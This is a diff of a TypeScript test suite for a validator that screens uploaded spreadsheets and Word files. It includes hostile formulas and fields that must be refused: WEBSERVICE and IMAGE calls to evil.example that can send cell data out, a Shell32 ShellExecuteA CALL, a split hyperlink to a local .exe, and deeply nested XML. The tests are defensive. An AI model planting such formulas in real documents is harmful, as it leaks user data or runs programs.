@@ -27,7 +27,7 @@ function workbook(parts: Record<string, string | Buffer> = {}): Buffer {
     "_rels/.rels": relation("officeDocument", "xl/workbook.xml"),
     "xl/workbook.xml": `${declaration}<workbook xmlns:r="${types}"><sheets><sheet name="Прайс" sheetId="1" r:id="rId1"/></sheets></workbook>`,
     "xl/_rels/workbook.xml.rels": relation("worksheet", "worksheets/sheet1.xml"),
-    "xl/worksheets/sheet1.xml": cell("SUM(B1:B9)"),
+    "xl/worksheets/sheet1.xml": cell("SUM($B1:B9)"),
     ...parts,
   };
   return zip(Object.keys(contents), { contents, deflated: true });
@@ -80,6 +80,9 @@ describe("a part of an office document is XML by its first sign that is no blank
     );
   });
 
+  it("elements within elements without end are refused", async () =>
+    expect(await judged({ "xl/data.xml": "<f>".repeat(100_000) + "</f>".repeat(100_000) })).toBe("fileType"));
+
   it("a part called XML that is none, or is not well-formed, is refused", async () => {
     expect(await judged({ "xl/styles.xml": "\x01\x02\x03 binary" })).toBe("fileType");
     expect(await judged({ "xl/data.bin": `<a b="` })).toBe("fileType");
@@ -102,7 +105,7 @@ describe("a part of an office document is XML by its first sign that is no blank
   });
 
   it.each(encodings.slice(0, 6))("a sheet in %s is taken when all of it is its own", async (_, encode) => {
-    const text = cell('IF(A2="да",VLOOKUP(A2,Лист2!A:B,2,0),"—")').slice(declaration.length);
+    const text = cell('IF($A2="да",VLOOKUP($A2,Лист2!A:B,2,0),"—")').slice(declaration.length);
     expect(await judged({ "xl/worksheets/sheet1.xml": encode(text) })).toBe("xlsx");
   });
 });
@@ -206,6 +209,16 @@ describe("content types of an office document (security I4)", () => {
     "image/x-emf",
   ])("%s is taken", async (type) => expect(await named(type)).toBe("xlsx"));
 
+  it("one beside an attribute of the same name in another namespace is refused", async () =>
+    expect(
+      await judged({
+        "[Content_Types].xml": contentTypes(
+          '<Default Extension="bin" x:ContentType="application/xml" ContentType="text/html"/>',
+        ),
+        "xl/data.bin": "x",
+      }),
+    ).toBe("fileType"));
+
   it("one that no part of the document has is passed over: SheetJS names macros in every book", async () => {
     expect(await named("application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xlsb")).toBe("xlsx");
     const list = await tableSheets(
@@ -228,22 +241,22 @@ describe("formulas of an office document (security I4)", () => {
     'IMAGE("http://evil.example/1.png")',
     '_xlfn.WEBSERVICE("http://evil.example")',
     '_xlfn._xlws.WEBSERVICE ("http://evil.example")',
-    'IF(A1>0,_xlfn.IMAGE("http://evil.example/"&A1),"")',
+    'IF($A1>0,_xlfn.IMAGE("http://evil.example/"&A1),"")',
     'webService("http://evil.example")',
-    "BYROW(A1:A3,_xleta.WEBSERVICE)",
+    "BYROW($A1:A3,_xleta.WEBSERVICE)",
     'SUM(1,"WEBSERVICE(")+WEBSERVICE("http://evil.example")',
     'RTD("prog.id",,"a")',
     'CALL("Shell32","ShellExecuteA","JJCCCJJ")',
     'REGISTER.ID("user32","x")',
     'CUBEVALUE("connection","[a]")',
     '_xlfn.STOCKHISTORY("MSFT",TODAY())',
-    '_xlfn.TRANSLATE(A1,"en")',
+    '_xlfn.TRANSLATE($A1,"en")',
     "_xlfn._xlws.PY(0,1)",
     'IMPORTDATA("http://evil.example")',
-    "GOOGLETRANSLATE(A1)",
+    "GOOGLETRANSLATE($A1)",
     'IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""http://evil.example"",""//a"")"),"x")',
     'IFERROR(__xludf.DUMMYFUNCTION("IMPORT"&"XML(""http://evil.example"")"),"x")',
-    "ADDIN.FUNCTION(A1)",
+    "ADDIN.FUNCTION($A1)",
     "[1]Лист1!A1",
     "'[1]Лист 1'!A1",
     "'C:\\папка\\[книга.xlsx]Лист1'!A1",
@@ -314,11 +327,11 @@ describe("formulas of an office document (security I4)", () => {
       (formula) => sheet(`<f>WEB<!-- > -->${formula.slice(3)}</f>`),
     ],
   ])("one that reaches outside is refused as %s", async (_, part, content) =>
-    expect(await judged({ [part]: content("WEBSERVICE(A1)") })).toBe("fileType"),
+    expect(await judged({ [part]: content("WEBSERVICE($A1)") })).toBe("fileType"),
   );
 
   it.each([
-    'IF(A2="a|b",SUM(B1:B9),0)',
+    'IF($A2="a|b",SUM($B1:B9),0)',
     'HYPERLINK("https://shop.test/"&A2,"Фото")',
     'HYPERLINK("#Лист2!A1","к листу")',
     "'Прайс лист'!$A$1:$B$9",
@@ -328,10 +341,10 @@ describe("formulas of an office document (security I4)", () => {
     "[@Цена]*[@Кол]",
     "[0]!Имя+1",
     'INDEX(Лист1!$A$1:$B$2,MATCH("*"&A1&"*",B:B,0),2)',
-    '_xlfn._xlws.FILTER(A1:A9,_xlfn.ANCHORARRAY(B1)>0,"")',
+    '_xlfn._xlws.FILTER($A1:A9,_xlfn.ANCHORARRAY($B1)>0,"")',
     "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(2))",
     'IFERROR(__xludf.DUMMYFUNCTION("ARRAYFORMULA(""a""&A1:A9)"),"x")',
-    "СуммаПрописью(A1)",
+    "СуммаПрописью($A1)",
     '_xlfn.DISPIMG("ID_1",1)',
     "{1,2;3,4}",
     "1.5E+10-#REF!",
@@ -367,8 +380,21 @@ describe("elements that fetch by what they say themselves (security I4)", () => 
       "word/settings.xml",
       '<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB"/></w:mailMerge>',
     ],
+    [
+      "a field that leads to a program, in pieces",
+      "word/document.xml",
+      '<w:p><w:instrText> HYPERLINK "fi</w:instrText><w:instrText>le:///C:/a.exe" </w:instrText></w:p>',
+    ],
     ["a field of a database", "word/document.xml", "<w:instrText> DATABASE \\d x \\c y </w:instrText>"],
   ])("%s is refused", async (_, part, content) => expect(await judged({ [part]: content })).toBe("fileType"));
+
+  it("fields that lead to pages and within the text are taken", async () => {
+    const fields = ['HYPERLINK "htt', 'ps://shop.test/" \\o "x"', " PAGE ", 'HYPERLINK \\l "_Toc1"', "TOC \\o \\h"];
+    const text = fields
+      .map((field) => `<w:instrText xml:space="preserve">${escaped(field)}</w:instrText>`)
+      .join("<w:r/>");
+    expect(await judged({ "word/document.xml": `<w:p>${text}</w:p>` })).toBe("docx");
+  });
 
   it("pictures that are in the document, and links of drawings, are taken", async () => {
     const vml =
